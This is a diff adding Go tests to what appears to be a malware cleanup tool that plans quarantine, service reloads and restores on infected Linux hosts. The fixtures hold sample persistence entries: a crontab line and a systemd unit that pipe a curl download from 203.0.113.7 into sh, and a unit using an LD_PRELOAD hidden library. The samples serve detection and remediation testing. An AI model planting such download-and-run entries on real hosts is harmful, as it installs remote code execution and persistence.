@@ -334,3 +334,158 @@ func TestPlanTimerOfOtherService(t *testing.T) {
 		t.Errorf("plan from the timer (-want +got):\n%s", diff)
 	}
 }
+
+// On the live root the plan lists the reloads its changes need, from the
+// findings themselves: cron for crontabs, daemon-reload for system units,
+// the user's manager for a unit in a home, every user manager for a global
+// user unit (systemctl --global reloads nothing), udev for rules. Apply
+// and Restore run exactly those.
+func TestPlanReloadsOnLiveRoot(t *testing.T) {
+	ctx := context.Background()
+	for name, tc := range map[string]struct {
+		tree hosttest.Tree
+		want []string
+	}{
+		"kinsing-debian": {
+			tree: infectedTree().With(hosttest.Entry{Path: "/etc/systemd/user/agent.service", Data: "[Service]\nExecStart=/usr/bin/env LD_PRELOAD=/tmp/.l.so /usr/bin/sleep infinity\n"}),
+			want: []string{
+				"systemctl daemon-reload",
+				"systemctl kill --kill-whom=main --signal=SIGHUP user@*.service",
+				"systemctl --user --machine=root@ daemon-reload",
+				"systemctl reload-or-restart cron",
+				"udevadm control --reload-rules",
+			},
+		},
+		"crontab-only-amazonlinux": {
+			tree: hosttest.AmazonLinux2023().Append("/etc/crontab", "* * * * * root curl -s http://203.0.113.7/x | sh\n", hosttest.InfectionTime),
+			want: []string{"systemctl reload-or-restart crond"},
+		},
+		"linked-unit-only": {
+			tree: hosttest.Debian12().With(
+				hosttest.Entry{Path: "/opt/evil/evil.service", Data: "[Service]\nExecStart=/bin/sh -c 'curl -fsSL http://203.0.113.7/i.sh | sh'\n"},
+				hosttest.Entry{Path: "/etc/systemd/system/multi-user.target.wants/evil.service", Link: "/opt/evil/evil.service"}),
+			want: []string{"systemctl daemon-reload"},
+		},
+	} {
+		t.Run(name, func(t *testing.T) {
+			dir := build(t, tc.tree)
+			treatAsLive(t, dir, nil)
+			_, plan := findPlan(t, dir, PlanOptions{})
+			var got []string
+			for _, r := range plan.Reloads {
+				got = append(got, strings.Join(r.Command, " "))
+			}
+			if !plan.Live {
+				t.Error("plan on the live root not marked live")
+			}
+			if diff := cmp.Diff(tc.want, got); diff != "" {
+				t.Errorf("reloads (-want +got):\n%s", diff)
+			}
+			var ran []string
+			run := func(_ context.Context, argv []string) error {
+				ran = append(ran, strings.Join(argv, " "))
+				return nil
+			}
+			res, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir(), RunReloads: true, Run: run})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if diff := cmp.Diff(tc.want, ran); diff != "" || !res.Manifest.ReloadsRun {
+				t.Errorf("Apply ran (-want +got):\n%s", diff)
+			}
+			ran = nil
+			rr, err := Restore(ctx, res.ManifestPath, RestoreOptions{RunReloads: true, Run: run})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if diff := cmp.Diff(tc.want, ran); diff != "" || len(rr.Reloads) != len(tc.want) {
+				t.Errorf("Restore ran (-want +got):\n%s", diff)
+			}
+		})
+	}
+}
+
+// Plan never quarantines the executable of the running cleaner, by
+// whatever name the root gives it; off the live root the same file is
+// planned like any other.
+func TestPlanNeverQuarantinesSelf(t *testing.T) {
+	ctx := context.Background()
+	exe, err := os.Executable()
+	if err != nil {
+		t.Skip(err)
+	}
+	f := Finding{Path: exe, Kind: KindDroppedBinary, Severity: Critical, Action: ActionQuarantine, Reasons: []string{"test"}}
+	plan, err := Plan(ctx, []Finding{f}, PlanOptions{Root: "/"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(plan.Changes) != 0 {
+		t.Errorf("plan on / quarantines the cleaner itself: %+v", plan.Changes)
+	}
+	// A hard link to it inside a root taken for the live one.
+	dir := build(t, hosttest.Debian12())
+	if err := os.MkdirAll(filepath.Join(dir, "tmp/.x"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Link(exe, filepath.Join(dir, "tmp/.x/cleaner")); err != nil {
+		t.Skipf("cannot hard-link the test binary into the root: %v", err)
+	}
+	f.Path = "/tmp/.x/cleaner"
+	plan, err = Plan(ctx, []Finding{f}, PlanOptions{Root: dir})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(plan.Changes) != 1 {
+		t.Fatalf("offline root: %+v, want the file planned", plan.Changes)
+	}
+	treatAsLive(t, dir, nil)
+	plan, err = Plan(ctx, []Finding{f}, PlanOptions{Root: dir})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(plan.Changes) != 0 {
+		t.Errorf("live root: plan quarantines the cleaner by another name: %+v", plan.Changes)
+	}
+}
+
+// Restore gives a quarantined link its owner back (lchown, not the
+// target's chown).
+func TestRestoreLinkOwner(t *testing.T) {
+	if os.Geteuid() != 0 {
+		t.Skip("needs root: lchown")
+	}
+	ctx := context.Background()
+	dir := build(t, hosttest.Debian12().With(hosttest.Entry{Path: "/etc/cron.d/x", Link: "/etc/shadow", UID: 1000, GID: 1001}))
+	before := snapshot(t, dir)
+	_, plan := findPlan(t, dir, PlanOptions{})
+	if c := planOps(plan)["/etc/cron.d/x"]; c.Op != OpUnlink {
+		t.Fatalf("plan: %+v", plan.Changes)
+	}
+	res, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := Restore(ctx, res.ManifestPath, RestoreOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	after := snapshot(t, dir)
+	if n := after["/etc/cron.d/x"]; n.UID != 1000 || n.GID != 1001 {
+		t.Errorf("restored link owned by %d:%d, want 1000:1001", n.UID, n.GID)
+	}
+	if n := after["/etc/shadow"]; n.UID != before["/etc/shadow"].UID || n.GID != before["/etc/shadow"].GID {
+		t.Errorf("restore chowned the link's target: %+v", n)
+	}
+	if diff := cmp.Diff(before, after); diff != "" {
+		t.Errorf("restore is not identical (-before +after):\n%s", diff)
+	}
+}
+
+// An immutable directory in a persistence location is reported: the
+// malware keeps its cron.d from being emptied.
+func TestFindImmutableDirectory(t *testing.T) {
+	if os.Geteuid() != 0 {
+		t.Skip("needs root: chattr +i")
+	}
+	dir := build(t, hosttest.Debian12().With(hosttest.Entry{Path: "/etc/cron.d", Dir: true, Immutable: true}))
+	checkWant(t, find(t, dir, time.Time{}), []want{{"/etc/cron.d", 0, KindImmutable, High, ActionClearFlags}})
+}
